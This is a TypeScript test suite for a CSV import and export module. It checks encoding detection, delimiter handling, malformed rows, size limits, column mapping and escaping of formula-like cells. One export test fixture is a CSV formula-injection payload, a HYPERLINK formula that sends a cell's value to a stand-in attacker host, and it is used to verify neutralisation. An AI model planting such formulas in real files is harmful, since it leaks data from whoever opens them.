import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guessKind, mapColumns, missingFields, rememberMapping } from '../../../shared/domain/import/columns.ts';
import { neutraliseCell, plainCell, writeCsv } from '../../../shared/domain/import/csv-out.ts';
import { decodeFile } from '../../../shared/domain/import/decode.ts';
import { importLimits } from '../../../shared/domain/import/limits.ts';
import { planImport } from '../../../shared/domain/import/plan.ts';
import { fileKinds, nothingKnown } from '../../../shared/domain/import/records.ts';
import { readTable, readWholeTable, type Table, type TableOptions } from '../../../shared/domain/import/table.ts';
import { college, decodeText } from './from-fixture.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

function utf16(text: string, bigEndian: boolean, mark: boolean): Uint8Array {
  const bytes: number[] = [];
  for (const unit of (mark ? '\uFEFF' : '') + text) {
    const code = unit.charCodeAt(0);
    bytes.push(...(bigEndian ? [code >> 8, code & 255] : [code & 255, code >> 8]));
  }
  return Uint8Array.from(bytes);
}

function tableOf(text: string, options: TableOptions = {}): Table {
  const read = readWholeTable('t.csv', text, options);
  if (!read.ok) throw new Error(read.problem.code);
  return read.table;
}

const cellsOf = (text: string): readonly (readonly string[])[] => tableOf(text).rows.map((row) => row.cells);
const codesOf = (table: Table): readonly string[] => table.problems.map(({ code }) => code);

describe('a file', () => {
  const text = 'code,name\nÅS,Zoë\n';
  it.each([
    ['UTF-8', utf8(text), 'utf-8', false],
    ['UTF-8 with its mark', utf8(`\uFEFF${text}`), 'utf-8', true],
    ['UTF-16 LE with its mark', utf16(text, false, true), 'utf-16le', true],
    ['UTF-16 BE with its mark', utf16(text, true, true), 'utf-16be', true],
    ['UTF-16 LE without', utf16(text, false, false), 'utf-16le', false],
    ['UTF-16 BE without', utf16(text, true, false), 'utf-16be', false],
    ['Windows-1252', Uint8Array.from(text, (sign) => sign.charCodeAt(0)), 'windows-1252', false],
  ] as const)('in %s is read', (_, bytes, encoding, mark) => {
    expect(decodeFile('f.csv', bytes, decodeText)).toEqual({ ok: true, text, encoding, mark });
  });

  it.each([
    ['empty', utf8(''), 'IMPORT_FILE_EMPTY'],
    ['of blank lines', utf8('\uFEFF \r\n\r\n'), 'IMPORT_FILE_EMPTY'],
    ['that is a PDF renamed', utf8('%PDF-1.7\n1 0 obj'), 'IMPORT_FILE_BINARY'],
    ['that is a workbook', Uint8Array.of(0x50, 0x4b, 3, 4, 20, 0), 'IMPORT_FILE_BINARY'],
    ['with a NUL', utf8('code,name\nA\0B,c\n'), 'IMPORT_FILE_BINARY'],
    ['over the limit', new Uint8Array(importLimits.fileBytes + 1), 'IMPORT_FILE_TOO_LARGE'],
  ])('%s is refused with its code', (_, bytes, code) => {
    const read = decodeFile('f.csv', bytes, decodeText);
    expect(read.ok ? 'read' : read.problem.code).toBe(code);
  });

  it('of any bytes is read or refused, never more', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.constantFrom(...fileKinds), (bytes, kind) => {
        const decoded = decodeFile('f.csv', bytes, decodeText);
        const read = decoded.ok ? readWholeTable('f.csv', decoded.text) : undefined;
        if (!read?.ok) return;
        const mapping = { name: 0, assetTag: 0, title: 0, site: 1, user: 1 };
        planImport({ [kind]: { kind, table: read.table, mapping } }, nothingKnown);
      }),
      { numRuns: 300 },
    );
  });
});

describe('a table', () => {
  it.each([',', ';', '\t', '|'])('is read with the delimiter %j found', (delimiter) => {
    const lines = [['code', 'name'], ['A', 'x, y; z'].map((cell) => `"${cell}"`), ['B', 'two']];
    const table = tableOf(lines.map((cells) => cells.join(delimiter)).join('\r\n'));
    expect(table.delimiter).toBe(delimiter);
    expect(table.rows.map((row) => row.cells)).toEqual([
      ['A', 'x, y; z'],
      ['B', 'two'],
    ]);
  });

  it('honours a first line sep=', () => {
    expect(tableOf('sep=;\ncode;name\nA;b,c\n')).toMatchObject({ delimiter: ';', rows: [{ line: 3, cells: ['A', 'b,c'] }] });
  });

  it('keeps good rows and names the line of the others', () => {
    const table = tableOf('code,name\r\nA,"one\r\ntwo"\r\nB\r\nC,x,y\r\nD,"open\r\nE,fine\r\nF,"bad" quote\r\n\r\nG,last,,');
    expect(table.rows).toEqual([
      { line: 2, cells: ['A', 'one\ntwo'] },
      { line: 7, cells: ['E', 'fine'] },
      { line: 10, cells: ['G', 'last'] },
    ]);
    expect(table.problems.map(({ code, line }) => [code, line])).toEqual([
      ['IMPORT_ROW_SHORT', 4],
      ['IMPORT_ROW_LONG', 5],
      ['IMPORT_QUOTE_MALFORMED', 6],
      ['IMPORT_QUOTE_MALFORMED', 8],
    ]);
    expect(table.refused).toBe(4);
  });

  it('goes on after a quote that never closes', () => {
    const table = tableOf('code,name\nA,"open\nB,two\nC,three\n');
    expect(codesOf(table)).toEqual(['IMPORT_QUOTE_OPEN']);
    expect(table.rows.map(({ line }) => line)).toEqual([3, 4]);
  });

  it('tells a missing, a repeated and a blank header', () => {
    expect(codesOf(tableOf('P0001,Zoë,zoe@college.example\nP0002,Ben,ben@college.example\n'))).toEqual(['IMPORT_HEADER_MISSING']);
    expect(tableOf('P0001,Zoë\nP0002,Ben\n').rows).toHaveLength(2);
    const table = tableOf('name,,Name\nA,b,c\n');
    expect(codesOf(table)).toEqual(['IMPORT_HEADER_BLANK', 'IMPORT_HEADER_REPEATED']);
    expect(mapColumns('department', table.columns)).toEqual({ name: 0 });
  });

  it('is read in slices, with progress, and can be left in the middle', () => {
    const text = `code,name\n${Array.from({ length: 60_000 }, (_, row) => `C${row},"name\n${row}"`).join('\n')}`;
    const done: number[] = [];
    for (const step of readTable('big.csv', text)) done.push(step.done);
    expect(done.length).toBeGreaterThan(3);
    expect(done.at(-1)).toBe(1);
    expect(done).toEqual(done.toSorted((a, b) => a - b));
    const table = tableOf(text);
    expect(table.rows).toHaveLength(60_000);
    expect(table.rows.at(-1)).toEqual({ line: 2 + 2 * 59_999, cells: ['C59999', 'name\n59999'] });
  });

  it('of a million rows is refused at the limit', () => {
    const read = readWholeTable('huge.csv', `asset_tag,serial\n${'GC1,S1\n'.repeat(1_000_000)}`);
    expect(read.ok ? 'read' : read.problem.code).toBe('IMPORT_TOO_MANY_ROWS');
  });

  it('full of broken quotes is refused', () => {
    const read = readWholeTable('bad.csv', `code,name\n${'A,"x"y\n'.repeat(5_000)}`);
    expect(read.ok ? 'read' : read.problem.code).toBe('IMPORT_QUOTES_BROKEN');
  });
});

describe('columns', () => {
  it('are mapped by name, and each college file is known for what it is', () => {
    const files = college();
    for (const kind of fileKinds) {
      const file = files[kind];
      if (!file) continue;
      expect(Object.keys(file.mapping)).toHaveLength(file.table.columns.length);
      expect(guessKind(file.table.columns)).toBe(kind);
    }
  });

  it('chosen by hand are remembered by name; a required one that is missing is told', () => {
    const columns = ['Inv', 'Rechner'].map((name, index) => ({ name, index }));
    expect(mapColumns('device', columns)).toEqual({});
    expect(missingFields('device', {})).toEqual([['assetTag', 'serial', 'name']]);
    const remembered = rememberMapping(columns, { assetTag: 0, name: 1 });
    expect(
      mapColumns(
        'device',
        columns.toReversed().map(({ name }, index) => ({ name, index })),
        remembered,
      ),
    ).toEqual({ assetTag: 1, name: 0 });
    const table = tableOf('Inv,Rechner\nA1,b\n');
    const plan = planImport({ device: { kind: 'device', table, mapping: {} } }, nothingKnown);
    expect(plan.problems.map(({ code }) => code)).toEqual(['IMPORT_COLUMN_MISSING']);
    expect(plan.counts.device).toMatchObject({ rows: 1, added: 0, refused: 1 });
  });
});

describe('an export', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\t=1', "'\t'=1"],
    ['";=1', '";\'=1'],
    ['  =1', "  '=1"],
    ['two\n=1', "two\n'=1"],
    ["'=kept", "''=kept"],
    ['a - b', 'a - b'],
  ])('neutralises %j', (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
    expect(plainCell(safe)).toBe(cell);
  });

  it('read back gives the same cells, whatever stood in them', () => {
    const sign = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\n',
      '"',
      "'",
      ';',
      ',',
      '|',
      ' ',
      'a',
      '1',
      'é',
      '\u202E',
      '＝',
      '\u00A0',
      '\uFEFF',
    );
    const cell = fc.oneof(fc.string({ unit: sign, maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 8 }));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 6 }), (rows) => {
        const kept = rows
          .map((row) => row.map((text) => text.replace(/\r\n?/g, '\n')))
          .filter((row) => row.some((text) => text.trim() !== ''));
        const csv = writeCsv(['one', 'two', 'three'], kept).replace(/^\uFEFF/, '');
        const read = tableOf(csv, { delimiter: ',' });
        expect(read.problems).toEqual([]);
        expect(read.rows.map((row) => row.cells.map(plainCell))).toEqual(kept);
      }),
      { numRuns: 1_000 },
    );
  });

  it('never lets a cell begin as a formula, in any spreadsheet’s list separator', () => {
    const unit = fc.constantFrom('=', '@', ';', '"', "'", ' ', 'x', '\n', '\t', '-');
    fc.assert(fc.property(fc.string({ unit }), (text) => !/(?:^|[;\t|\r\n])[" ]*[=+\-@]/.test(neutraliseCell(text))));
    expect(cellsOf('a,b\n1,2\n')).toEqual([['1', '2']]);
  });
});
